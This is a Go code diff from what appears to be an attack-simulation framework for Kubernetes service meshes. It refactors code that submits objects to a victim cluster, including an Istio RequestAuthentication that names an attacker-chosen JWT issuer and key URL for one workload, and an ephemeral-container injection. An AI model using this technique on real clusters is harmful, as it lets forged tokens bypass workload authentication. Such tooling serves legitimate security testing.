@@ -29,9 +29,6 @@ func (p SubmitObject) path(t attacker.Target) (string, error) {
 	if err != nil {
 		return "", err
 	}
-	if p.Object == SubmitIssuer {
-		return "/apis/security.istio.io/v1/namespaces/" + namespace + "/requestauthentications", nil
-	}
 	path := "/api/v1/namespaces/" + namespace
 	if p.Object == SubmitNamespace {
 		return path, nil
@@ -54,8 +51,6 @@ func (p SubmitObject) path(t attacker.Target) (string, error) {
 // body is the object, or what is to change in it; nil for a command.
 func (p SubmitObject) body(nonce string, t attacker.Target) (any, error) {
 	switch p.Object {
-	case SubmitIssuer:
-		return p.authentication(nonce, t)
 	case SubmitContainer:
 		c, err := p.container(objectName(nonce), nonce, t)
 		return map[string]any{"spec": map[string]any{"ephemeralContainers": []any{c}}}, err
@@ -108,25 +103,31 @@ func (p SubmitObject) pod(nonce string, t attacker.Target) (any, error) {
 
 // authentication names an issuer that nobody has, for the proxy of the token's
 // owner alone: nobody else's proxy is told of it.
-func (p SubmitObject) authentication(nonce string, t attacker.Target) (any, error) {
+func (p SubmitObject) authentication(nonce string, f attacker.Foothold, t attacker.Target) (path string, object map[string]any, err error) {
+	protocol, err := f.Protocol(t.Authority.Protocol)
+	if err != nil {
+		return "", nil, err
+	}
+	issuers, ok := protocol.(attacker.TokenIssuerProtocol)
+	if !ok {
+		return "", nil, fmt.Errorf("in this mesh (protocol %q) nobody names the issuer of a workload's tokens at the platform", protocol.Name())
+	}
+	namespace, err := nameOf(t, p.Token.Of, "namespace")
+	if err != nil {
+		return "", nil, err
+	}
 	proxy, err := nameOf(t, p.Token.Of, "proxy")
 	if err != nil {
-		return nil, err
+		return "", nil, err
 	}
 	app, _, _ := strings.Cut(proxy, ".")
 	name := objectName(nonce)
 	at, err := p.address(nonce, t)
 	if err != nil {
-		return nil, err
+		return "", nil, err
 	}
-	return map[string]any{
-		"apiVersion": "security.istio.io/v1", "kind": "RequestAuthentication",
-		"metadata": map[string]any{"name": name},
-		"spec": map[string]any{
-			"selector": map[string]any{"matchLabels": map[string]any{"app": app}},
-			"jwtRules": []any{map[string]any{"issuer": name + ".meshbreach.test", "jwksUri": at}},
-		},
-	}, nil
+	path, object = issuers.IssuerObject(attacker.TokenIssuer{Name: name, Namespace: namespace, Workload: app, Issuer: name + ".meshbreach.test", Keys: at})
+	return path, object, nil
 }
 
 // address is where the keys are said to be. Whoever fetches them can be made to
